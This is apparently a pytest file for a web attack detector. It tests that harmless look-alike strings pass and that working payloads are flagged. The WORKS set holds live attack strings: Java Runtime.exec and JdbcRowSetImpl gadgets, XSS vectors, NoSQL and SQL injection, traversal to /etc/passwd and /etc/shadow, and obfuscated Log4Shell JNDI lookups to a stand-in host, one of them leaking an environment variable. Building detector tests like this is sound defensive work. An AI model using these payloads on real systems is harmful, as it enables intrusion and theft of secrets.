"""What looks like an attack and can work nowhere, beside the nearest thing that does."""

from __future__ import annotations

import pytest

from casemate.engines.web.detectors import detectors

HARMLESS = {
    "java": [
        b"java.lang.Runtime",
        b"/docs/api/java.lang.Runtime.html",
        b"java.lang.Thread.State is an enum of java.lang.Thread",
        b"java.net.SocketTimeoutException: Read timed out",
        b"java.io.FileNotFoundException: /tmp/a.txt (No such file or directory)",
        b"Which is better, java.util.Scanner or java.io.BufferedReader?",
        b"the class `javax.script.ScriptEngine` was removed",
        b"at java.base/java.lang.Thread.run(Thread.java:840)",
        b"see org.springframework.context.ApplicationContext for details",
        b"No bean of type org.hibernate.SessionFactory was found",
        b"expected java.lang.String, got java.lang.Integer",
        b"java.lang.ProcessBuilder vs java.lang.Runtime",
    ],
    "xss": [
        b"<object at 0x7f21a0>",
        b"<object>",
        b"Promise<object>",
        b"List<Object> list",
        b"[<object object at 0x10>, None]",
        b"reply with <xml> only",
        b"a <frame> of the film",
        b"the <layer> option",
        b"Dictionary<object, object>",
        b"<embed> was never in HTML 4",
        b"<object Foo at 0x10e5 size 12>",
    ],
    "nosql": [
        b'mutation { add(text: "he said \\"hi\\"") { id } }',
        b'query { user(input: {name: "Ann"}) { id } }',
        b'mutation { a(in: {t: "x", u: "y"}) { ok } }',
        b'{ search(filter: {tag: "new"}) { nodes { id } } }',
        b'query Q { p(where: {slug: {eq: "a-b"}}) { title } }',
        b'subscription { room(args: {id: "7"}) { text } }',
        b'mutation { x(a: {b: "c"}) { d } y(a: {b: "e"}) { f } }',
        b'{ a(o: {n: "1"}) { b(o: {n: "2"}) { c } } }',
        b'fragment F on T { img(size: {unit: "px"}) { url } }',
        b'query { v(v: {s: "q\\"q"}) { id } }',
    ],
    "traversal": [
        b"src/etc/passwd_parser.py",
        b"docs/etc/hosts_file_format.txt",
        b"lib/proc/selfie_upload.rb",
        b"app/etc/groups/list.tsx",
        b"tests/etc/issue_4411.spec.js",
        b"pkg/etc/networksettings.go",
        b"ui/etc/profile_page.vue",
        b"api/etc/services_client.py",
        b"img/proc/memory.png",
        b"notes/etc/passwordless.adoc",
    ],
    "sqli_low": [
        b"POLYGON((30 10, 40 40, 20 40, 10 20, 30 10))",
        b"POINT(-71.064544 42.28787)",
        b"LINESTRING(8.54 47.37, 8.55 47.38)",
        b"MULTIPOLYGON(((1 1,5 1,5 5,1 5,1 1),(2 2,2 3,3 3,3 2,2 2)),((6 3,9 2,9 4,6 3)))",
        b"SRID=4326;POINT(1 2)",
        b"POINT Z (1 2 3)",
        b"MULTIPOINT((10 40), (40 30))",
        b"GEOMETRYCOLLECTION(POINT(4 6),LINESTRING(4 6,7 10))",
        b"polygon ((0 0, 0 1e3, 1e3 1e3, 0 0))",
        b"BOX(1 2,3 4)",
        b"POINT EMPTY",
    ],
    "log4j": [
        b"${env:HOME}",
        b"${workspaceFolder}/src",
        b"${jndi:ldap}",
        b"${jndi:ldap://...}",
        b"${jndi:ldap://\xe2\x80\xa6}",
        b"${jndi:}",
        b"${date:yyyy-MM-dd}",
        b"${sys:user.name}",
        b"${name::-1}",
        b"${jndi:rmi://<host>/a}",
        b"${jndi:java:comp/env/jdbc/shop}",
        b"${lower:ABC}",
    ],
}
WORKS = {
    "java": [
        b"(java.lang.Runtime).getRuntime().exec('id')",
        b"new java.lang.ProcessBuilder(cmd).start()",
        b"Class.forName('java.lang.Runtime')",
        b"@java.lang.Runtime@getRuntime()",
        b"org.springframework.context.support.ClassPathXmlApplicationContext",
        b'{"@type":"com.sun.rowset.JdbcRowSetImpl"}',
        b"hello java.lang.Runtime.getRuntime().exec('id')",
    ],
    "xss": [
        b"<object data=javascript:alert(1)>",
        b"<embed src=//e.example/x.swf>",
        b"<applet code=X>",
        b"<object type='text/x-scriptlet' data='//e.example'>",
        b"<xml onerror=alert(1)>",
        b"<object><script>alert(1)</script>",
    ],
    "nosql": [b"' || '1'=='1", b"\", $or: [ {}, {'a':'a", b"admin' && this.password.match(/.*/)//", b"'}, $or: [{}]"],
    "traversal": [
        b"/etc/passwd",
        b"../../etc/passwd",
        b"a/../../etc/hosts",
        b"/etc/passwd-",
        b"/etc/passwd.jpg",
        b"/proc/self/environ",
        b"/proc/12/cmdline",
        b"file:///etc/shadow",
    ],
    "sqli_low": [b"1 and sleep(5)", b"sleep(5)", b"1) or (1=1", b"POINT(1 2)' or '1'='1", b"1 or benchmark(9,9)"],
    "log4j": [
        b"${jndi:ldap://e.example/a}",
        b"${${lower:j}ndi:${lower:l}dap://e.example/a}",
        b"${jndi:${env:A:-ldap}://e.example/a}",
        b"x ${jndi:dns:e.example} y",
        b"${${::-j}${::-n}${::-d}${::-i}:rmi://[::1]/a}",
        b"${jndi:ldap://${env:USER}.e.example/a}",
    ],
}


@pytest.mark.parametrize(("name", "value"), [(name, value) for name, all_ in HARMLESS.items() for value in all_])
def test_what_can_not_work_is_no_attack(name: str, value: bytes) -> None:
    assert detectors()[name](value) is None


@pytest.mark.parametrize(("name", "value"), [(name, value) for name, all_ in WORKS.items() for value in all_])
def test_its_nearest_neighbour_that_works_is_one(name: str, value: bytes) -> None:
    assert detectors()[name](value) is not None
